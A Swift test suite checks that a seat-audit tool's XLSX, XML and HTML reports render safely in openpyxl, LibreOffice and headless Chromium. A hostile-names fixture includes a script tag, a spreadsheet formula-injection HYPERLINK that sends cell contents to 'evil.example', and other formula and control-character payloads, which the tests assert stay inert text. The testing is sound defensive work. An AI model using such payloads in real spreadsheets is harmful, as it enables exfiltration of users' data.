import Foundation
import SeatSweepKit
import Testing

/// The reports `seatsweep audit` writes, opened by readers nobody here wrote: openpyxl,
/// LibreOffice headless and headless Chromium. Run on the bundled sample and on the
/// hostile-names fixture. A missing reader fails the test with the command that installs it.
@Suite struct ReportReaderTests {
    static let hostileInput = "Tests/SeatSweepKitTests/Fixtures/hostile-export.csv"

    /// The files one audit wrote.
    struct Audited {
        var directory: URL
        var summary: [String: Any]
        var planIds: [String]
        var planNames: [String]

        func url(_ name: String) -> URL { directory.appendingPathComponent(name) }

        var totals: [String: Any] { summary["totals"] as? [String: Any] ?? [:] }
        func total(_ key: String) -> Int { totals[key] as? Int ?? -1 }
        var seats: [[String: Any]] { summary["seats"] as? [[String: Any]] ?? [] }
    }

    /// Runs the audit as a user would and loads summary.json and plan.json.
    static func audit(_ arguments: [String]) throws -> Audited {
        let dir = try CLI.temporaryDirectory()
        let out = dir.appendingPathComponent("report")
        let run = try CLI.run(["audit"] + arguments + ["--as-of", "2026-11-01", "--out", out.path])
        guard run.status == 0 else { throw CLIError("audit failed: \(run.stderr)") }
        let summary =
            try JSONSerialization.jsonObject(with: Data(contentsOf: out.appendingPathComponent("summary.json")))
            as? [String: Any] ?? [:]
        let plan =
            try JSONSerialization.jsonObject(with: Data(contentsOf: out.appendingPathComponent("plan.json")))
            as? [String: Any] ?? [:]
        let actions = plan["actions"] as? [[String: Any]] ?? []
        return Audited(
            directory: out, summary: summary, planIds: actions.compactMap { $0["id"] as? String },
            planNames: actions.compactMap { $0["name"] as? String })
    }

    static func sample() throws -> Audited {
        try audit(["Samples/directory-export.csv", "--policy", "Samples/policy.yml"])
    }

    static func hostile() throws -> Audited { try audit([hostileInput]) }

    /// The label → value pairs of the Summary sheet's first section.
    static func keyValues(_ sheet: Readers.Workbook.Sheet) -> [String: Readers.Workbook.Cell] {
        var out: [String: Readers.Workbook.Cell] = [:]
        for row in sheet.rows.dropFirst() {
            guard let label = row.first?.text, row.count > 1 else { continue }
            if out[label] == nil { out[label] = row[1] }
        }
        return out
    }

    // MARK: openpyxl

    @Test func openpyxlReadsTheWorkbookAndItsNumbersEqualSummaryJSON() throws {
        for audited in [try Self.sample(), try Self.hostile()] {
            defer { try? FileManager.default.removeItem(at: audited.directory.deletingLastPathComponent()) }
            let workbook = try Readers.readXLSX(audited.url("report.xlsx"))
            #expect(workbook.sheets.map(\.title) == ["Summary", "Candidates", "Seats", "Protected"])
            let summary = try #require(workbook.sheet("Summary"))
            let values = Self.keyValues(summary)
            for (label, key) in [
                ("Accounts", "accounts"), ("Billable seats", "billableSeats"), ("Inactive seats", "inactiveSeats"),
                ("Candidate seats", "candidates"), ("Protected accounts", "protectedAccounts"),
            ] {
                #expect(values[label]?.number == Double(audited.total(key)), "\(label)")
                #expect(values[label]?.t == "n", "\(label) is a number")
            }
            #expect(values["Plan actions"]?.number == Double(audited.planIds.count))
            #expect(values["Audit date"]?.date == true)
            #expect(values["Audit date"]?.text == "2026-11-01")
            #expect(values["Monthly savings"]?.text == "not priced (pass --pricing)")
            // The per-subscription table equals summary.json's seats.
            let headerIndex = try #require(summary.rows.firstIndex { $0.first?.text == "Product" })
            for (i, seat) in audited.seats.enumerated() {
                let row = summary.rows[headerIndex + 1 + i]
                #expect(row[0].text == seat["product"] as? String)
                #expect(row[1].text == seat["site"] as? String)
                for (column, key) in [
                    (3, "billable"), (4, "inactive"), (5, "neverAccessed"), (6, "protected"), (7, "candidates"),
                ] {
                    #expect(row[column].number == (seat[key] as? Int).map(Double.init), "\(key)")
                }
            }
            // Candidates: a header, then exactly one row per plan action, in plan order.
            let candidates = try #require(workbook.sheet("Candidates"))
            let header = candidates.rows[0].compactMap(\.text)
            #expect(header.first == "id")
            let decision = try #require(header.firstIndex(of: "Decision"))
            #expect(candidates.rows.count == 1 + audited.planIds.count)
            #expect(candidates.rows.dropFirst().map { $0[0].text } == audited.planIds)
            #expect(candidates.rows.dropFirst().allSatisfy { $0[decision].v == .null })
            let lastActive = try #require(header.firstIndex(of: "Last active"))
            let days = try #require(header.firstIndex(of: "Days inactive"))
            for row in candidates.rows.dropFirst() {
                #expect(row[lastActive].date == true || row[lastActive].text == "never")
                if row[days].v != .null { #expect(row[days].t == "n") }
                #expect(row.allSatisfy { $0.t != "f" }, "no formulas")
            }
            #expect(workbook.sheet("Seats")?.rows.count == 1 + audited.total("billableSeats"))
            for sheet in workbook.sheets {
                #expect(sheet.freeze == "A2", "\(sheet.title) freezes its header")
                #expect(sheet.headerBold, "\(sheet.title) has a bold header")
                #expect(!sheet.widths.isEmpty, "\(sheet.title) has column widths")
                if sheet.title != "Summary" { #expect(sheet.autoFilter?.hasPrefix("A1:") == true, "\(sheet.title)") }
            }
        }
    }

    @Test func openpyxlReadsHostileNamesAsPlainText() throws {
        let audited = try Self.hostile()
        defer { try? FileManager.default.removeItem(at: audited.directory.deletingLastPathComponent()) }
        let workbook = try Readers.readXLSX(audited.url("report.xlsx"))
        let seats = try #require(workbook.sheet("Seats"))
        let names = seats.rows.dropFirst().map { $0[1] }
        #expect(names.allSatisfy { $0.t == "s" })
        let texts = Set(names.compactMap(\.text))
        for expected in [
            #"<script>alert("x")</script>"#, #"=HYPERLINK("http://evil.example/?"&A1,"Click me")"#, "@SUM(A1:A9)",
            "-10+20", "Mallory \u{FFFD}gnp.exe", "Zoë 👩🏽‍💻 Ørsted 🇳🇴 李小龍 مريم",
            "Bell\u{FFFD}Ringer\u{FFFD}Esc\u{FFFD}Del\u{FFFD}Next\u{FFFD}Line",
        ] {
            #expect(texts.contains(expected), "\(expected)")
        }
        #expect(texts.contains { $0.count == 10_000 })
        let emails = seats.rows.dropFirst().compactMap { $0[2].text }
        #expect(emails.contains("=1+2@evil.example"))
        #expect(!texts.joined().unicodeScalars.contains { $0 == "\u{202E}" || $0 == "\u{07}" })
    }

    @Test func openpyxlSeesMoneyWithACurrencyFormat() throws {
        // The priced path (issue 3 fills Summary.savings); here a hand-made Savings.
        let data = try Data(contentsOf: CLI.root.appendingPathComponent("Samples/directory-export.csv"))
        var result = try Audit(
            options: Audit.Options(
                asOf: Day(iso: "2026-11-01"), today: Day(iso: "2026-11-01")!,
                generatedAt: Timestamp(seconds: 1_793_520_000), toolVersion: "0.1.0")
        ).run([InputFile(path: "Samples/directory-export.csv", data: data)])
        func d(_ s: String) -> Decimal { Decimal(string: s, locale: Locale(identifier: "en_US_POSIX"))! }
        result.summary.savings = Savings(
            currency: "USD", source: "test prices",
            groups: [
                SubscriptionSavings(
                    product: "jira", site: "acme", billing: "monthly", monthlyCost: d("1234.5"),
                    monthlySavings: d("17.25"), annualSavings: d("207"), effectiveFrom: nil)
            ], apps: [], unpriced: [], monthlySavings: d("17.25"), annualSavings: d("207"))
        let dir = try CLI.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let url = dir.appendingPathComponent("priced.xlsx")
        var bytes: [UInt8] = []
        try XLSXRenderer.render(ReportDocument(result)) { bytes += $0 }
        try Data(bytes).write(to: url)
        let workbook = try Readers.readXLSX(url)
        let values = Self.keyValues(try #require(workbook.sheet("Summary")))
        let monthly = try #require(values["Monthly savings"])
        #expect(monthly.number == 17.25)
        #expect(monthly.fmt.contains("USD"))
        #expect(values["Annual savings"]?.number == 207)
        let summary = try #require(workbook.sheet("Summary"))
        let jira = try #require(summary.rows.first { $0.first?.text == "jira" && $0[1].text == "acme" })
        #expect(jira[8].number == 1234.5)
        #expect(jira[9].number == 17.25)
        #expect(jira[8].fmt.contains("USD"))
    }

    // MARK: LibreOffice

    @Test func libreOfficeConvertsBothFilesToTheSameRows() throws {
        let sample = try Self.sample()
        let hostile = try Self.hostile()
        let work = try CLI.temporaryDirectory()
        defer {
            for dir in [sample.directory, hostile.directory] {
                try? FileManager.default.removeItem(at: dir.deletingLastPathComponent())
            }
            try? FileManager.default.removeItem(at: work)
        }
        var inputs: [URL] = []
        for (name, audited) in [("sample", sample), ("hostile", hostile)] {
            for ext in ["xlsx", "xml"] {
                let copy = work.appendingPathComponent("\(name)-\(ext).\(ext)")
                try FileManager.default.copyItem(at: audited.url("report.\(ext)"), to: copy)
                inputs.append(copy)
            }
        }
        let csv = work.appendingPathComponent("csv")
        try Readers.convertToCSV(inputs, into: csv)
        for (name, audited) in [("sample", sample), ("hostile", hostile)] {
            for sheet in ["Summary", "Candidates", "Seats", "Protected"] {
                let fromXLSX = try String(
                    contentsOf: csv.appendingPathComponent("\(name)-xlsx-\(sheet).csv"), encoding: .utf8)
                let fromXML = try String(
                    contentsOf: csv.appendingPathComponent("\(name)-xml-\(sheet).csv"), encoding: .utf8)
                #expect(!fromXLSX.isEmpty)
                #expect(fromXLSX == fromXML, "\(name) \(sheet): the two workbooks differ")
            }
            let candidates = try String(
                contentsOf: csv.appendingPathComponent("\(name)-xml-Candidates.csv"), encoding: .utf8)
            let lines = candidates.split(separator: "\n", omittingEmptySubsequences: true)
            #expect(lines.first?.hasPrefix("id,Decision,Name,Email,") == true)
            #expect(lines.count == 1 + audited.planIds.count)
            #expect(lines.dropFirst().map { String($0.prefix(12)) } == audited.planIds)
            let seats = try String(contentsOf: csv.appendingPathComponent("\(name)-xlsx-Seats.csv"), encoding: .utf8)
            #expect(seats.contains(",2026-") || seats.contains(",never,"), "dates are shown as dates")
        }
        let hostileSeats = try String(
            contentsOf: csv.appendingPathComponent("hostile-xlsx-Seats.csv"), encoding: .utf8)
        #expect(hostileSeats.contains(#""=HYPERLINK(""http://evil.example/?""&A1,""Click me"")""#))
        #expect(hostileSeats.contains(",@SUM(A1:A9),"))
        #expect(hostileSeats.contains("Zoë 👩🏽‍💻 Ørsted 🇳🇴 李小龍 مريم"))
    }

    // MARK: Chromium

    @Test func chromiumLoadsTheReportWithoutErrorsOrRequests() throws {
        for audited in [try Self.sample(), try Self.hostile()] {
            defer { try? FileManager.default.removeItem(at: audited.directory.deletingLastPathComponent()) }
            let html = audited.url("report.html")
            let page = try Readers.checkPage(html, screenshot: audited.url("screenshot.png"))
            #expect(page.console.isEmpty, "console: \(page.console.map(\.text))")
            #expect(page.requests == ["file://" + html.path], "requests: \(page.requests)")
            #expect(page.proxyHits.isEmpty, "network: \(page.proxyHits)")
            #expect(page.screenshot.width >= 1000 && page.screenshot.height >= 900)
            #expect(page.screenshot.bytes > 20_000)
            #expect(page.probe.candidateRows == audited.planIds.count)
            #expect(page.probe.svgCharts == 2)
            #expect(page.probe.scriptElements == 1)
            #expect(page.probe.pwned == false)
            #expect(page.probe.filterVisible == true)
            #expect(page.probe.sortState == "descending")
            let days = (page.probe.sortedDays ?? []).filter { !$0.isEmpty }.compactMap {
                Int($0.replacingOccurrences(of: ",", with: ""))
            }
            #expect(!days.isEmpty && days == days.sorted(by: >), "sorted: \(page.probe.sortedDays ?? [])")
            #expect((page.probe.filterShown ?? 0) >= 1 && (page.probe.filterShown ?? 0) < audited.planIds.count)
            for name in audited.planNames.map(ReportText.clean) where name.count < 100 && !name.contains("  ") {
                #expect(page.probe.bodyText?.contains(name) == true, "\(name)")
            }
        }
    }

    @Test func chromiumShowsEveryRowWithoutScript() throws {
        let audited = try Self.sample()
        defer { try? FileManager.default.removeItem(at: audited.directory.deletingLastPathComponent()) }
        let page = try Readers.checkPage(
            audited.url("report.html"), screenshot: audited.url("noscript.png"), script: false)
        #expect(page.console.isEmpty, "\(page.console.map(\.text))")
        #expect(page.probe.candidateRows == audited.planIds.count)
        #expect(page.probe.bodyText?.contains("Ana Souza") == true)
    }

    /// The checker itself can fail: a page that fetches and logs errors is caught.
    @Test func chromiumCheckerCatchesRequestsAndConsoleErrors() throws {
        let dir = try CLI.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: dir) }
        let page = dir.appendingPathComponent("bad.html")
        try Data(
            #"<!doctype html><title>bad</title><img src="http://example.invalid/x.png"><script>console.error("boom")</script>"#
                .utf8
        ).write(to: page)
        let check = try Readers.checkPage(page, screenshot: dir.appendingPathComponent("bad.png"))
        #expect(check.requests.contains("http://example.invalid/x.png"))
        #expect(check.proxyHits.contains { $0.contains("example.invalid") })
        #expect(check.console.contains { $0.text == "boom" })
    }
}
